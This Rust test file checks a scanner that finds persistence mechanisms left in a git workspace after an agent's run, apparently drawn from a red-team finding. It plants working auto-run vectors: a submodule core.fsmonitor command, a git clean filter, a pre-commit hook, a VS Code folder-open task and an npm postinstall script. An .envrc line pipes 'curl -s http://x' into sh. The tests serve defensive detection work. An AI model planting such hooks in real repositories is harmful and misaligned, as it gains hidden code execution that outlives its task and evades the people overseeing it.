//! The persistence scanner against real git: each attack of the red-team finding, done as a
//! plain shell script in a workspace after `since`, gives exactly its findings; the benign
//! things a working agent does there (commits, `git submodule add`, an editor setting, a
//! test script, using a repository whose hook predates the run) give none.
//!
//! No sandbox is needed: the scanner reads a directory after the run, whoever wrote it.

use std::path::Path;
use std::process::Command;
use std::time::{Duration, SystemTime};

use cordon::persist::{scan, Finding};

/// Runs `script` with `sh -e` in `dir`, git isolated from the host's config.
fn sh(dir: &Path, home: &Path, script: &str) {
    let out = Command::new("sh")
        .args(["-ec", script])
        .current_dir(dir)
        .env("HOME", home)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("GIT_CONFIG_GLOBAL", home.join("gitconfig"))
        .env("GIT_AUTHOR_NAME", "t")
        .env("GIT_AUTHOR_EMAIL", "t@example.invalid")
        .env("GIT_COMMITTER_NAME", "t")
        .env("GIT_COMMITTER_EMAIL", "t@example.invalid")
        .output()
        .unwrap_or_else(|e| panic!("sh: {e}"));
    assert!(
        out.status.success(),
        "script failed ({}):\n{script}\nstdout: {}\nstderr: {}",
        out.status,
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
}

/// A `since` later than everything made so far (past the scanner's clock slack).
fn mark_since() -> SystemTime {
    std::thread::sleep(Duration::from_millis(250));
    let since = SystemTime::now();
    std::thread::sleep(Duration::from_millis(20));
    since
}

fn summary(ws: &Path, found: &[Finding]) -> Vec<(&'static str, String, String)> {
    found
        .iter()
        .map(|f| {
            (
                f.vector,
                f.file.strip_prefix(ws).unwrap().display().to_string(),
                f.key.clone(),
            )
        })
        .collect()
}

fn row(v: &'static str, file: &str, key: &str) -> (&'static str, String, String) {
    (v, file.to_string(), key.to_string())
}

#[test]
fn each_attack_is_found_and_benign_work_is_not() {
    let home = tempfile::tempdir().unwrap();
    let upstream = tempfile::tempdir().unwrap();
    let t = tempfile::tempdir().unwrap();
    let ws = t.path();
    let marker = home.path().join("PWNED");
    sh(
        upstream.path(),
        home.path(),
        "git init -q . && echo lib > lib.txt && git add . && git commit -qm lib",
    );
    sh(
        ws,
        home.path(),
        "git init -q . && echo a > a.txt && git add a.txt && git commit -qm a
         mkdir hooked && cd hooked && git init -q . && git commit -q --allow-empty -m h
         printf '#!/bin/sh\\nexit 0\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit",
    );
    let since = mark_since();

    // Benign: what an agent doing its job leaves.
    sh(
        ws,
        home.path(),
        &format!(
            "echo b > b.txt && git add b.txt && git commit -qm b
             git -c protocol.file.allow=always submodule add -q 'file://{}' lib && git commit -qm lib
             git -C hooked commit -q --allow-empty -m again
             mkdir .vscode && echo '{{\"editor.formatOnSave\": true}}' > .vscode/settings.json
             mkdir web && echo '{{\"name\": \"w\", \"scripts\": {{\"test\": \"jest\"}}}}' > web/package.json",
            upstream.path().display()
        ),
    );
    assert_eq!(summary(ws, &scan(ws, since)), vec![], "benign work gave findings");

    // The attacks.
    sh(
        ws,
        home.path(),
        &format!(
            "mkdir sub && cd sub && git init -q . && git commit -q --allow-empty -m s && cd ..
             printf '[core] fsmonitor = \"touch {m}; false\"\\n' >> sub/.git/config
             H=$(git -C sub rev-parse HEAD)
             git update-index --add --cacheinfo 160000,$H,sub
             echo 'curl -s http://x | sh' > .envrc
             printf '%s' '{{\"version\": \"2.0.0\", \"tasks\": [{{\"label\": \"x\", \"command\": \"touch {m}\", \"runOptions\": {{\"runOn\": \"folderOpen\"}}}}]}}' > .vscode/tasks.json
             echo '{{\"name\": \"p\", \"scripts\": {{\"test\": \"jest\", \"postinstall\": \"touch {m}\"}}}}' > package.json
             echo '* filter=pwn' > .gitattributes
             git config filter.pwn.clean 'touch {m}; cat'",
            m = marker.display()
        ),
    );
    let found = scan(ws, since);
    assert_eq!(
        summary(ws, &found),
        vec![
            row("envrc", ".envrc", ""),
            row("git-config", ".git/config", "filter.pwn.clean"),
            row("gitlink", ".git/index", "sub"),
            row("gitattributes", ".gitattributes", "filter=pwn"),
            row("editor-task", ".vscode/tasks.json", "tasks[0]"),
            row("package-script", "package.json", "scripts.postinstall"),
            row("git-config", "sub/.git/config", "core.fsmonitor"),
        ]
    );
    let fsmonitor = found.iter().find(|f| f.key == "core.fsmonitor").unwrap();
    assert_eq!(
        fsmonitor.value_preview,
        format!("touch {}; false", marker.display())
    );
    assert_eq!(
        fsmonitor.inspect,
        format!(
            "git config --file '{}' --unset-all 'core.fsmonitor'",
            ws.join("sub/.git/config").display()
        )
    );
    assert!(!marker.exists(), "scanning ran the planted command");

    // The finding is real: the next `git status` at the top runs the submodule's fsmonitor.
    sh(ws, home.path(), "git status --porcelain >/dev/null 2>&1 || true");
    assert!(
        marker.exists(),
        "git status did not run the planted core.fsmonitor"
    );
}

#[test]
fn separate_git_dir_with_fsmonitor_and_hook() {
    let home = tempfile::tempdir().unwrap();
    let t = tempfile::tempdir().unwrap();
    let ws = t.path();
    let since = mark_since();
    sh(
        ws,
        home.path(),
        "git init -q --separate-git-dir=.g .
         test -f .git
         printf '[core]\\n\\tfsmonitor = \"touch /var/tmp/PWNED; false\"\\n' >> .g/config
         printf '#!/bin/sh\\ntouch /var/tmp/PWNED\\n' > .g/hooks/pre-commit && chmod +x .g/hooks/pre-commit",
    );
    assert_eq!(
        summary(ws, &scan(ws, since)),
        vec![
            row("git-config", ".g/config", "core.fsmonitor"),
            row("git-hook", ".g/hooks/pre-commit", "pre-commit")
        ]
    );
    let found = scan(ws, since);
    assert_eq!(
        found[1].inspect,
        format!("rm '{}'", ws.join(".g/hooks/pre-commit").display())
    );
    assert_eq!(found[1].value_preview, "touch /var/tmp/PWNED");
}

#[test]
fn a_repository_older_than_the_run_is_not_reported() {
    let home = tempfile::tempdir().unwrap();
    let t = tempfile::tempdir().unwrap();
    let ws = t.path();
    sh(
        ws,
        home.path(),
        "git init -q . && git config core.pager 'less -R' && git commit -q --allow-empty -m a
         printf '#!/bin/sh\\nexit 0\\n' > .git/hooks/post-commit && chmod +x .git/hooks/post-commit
         echo 'use nix' > .envrc",
    );
    let since = mark_since();
    sh(
        ws,
        home.path(),
        "echo x > x && git add x && git commit -qm x && git log -1 >/dev/null",
    );
    assert_eq!(summary(ws, &scan(ws, since)), vec![]);
}
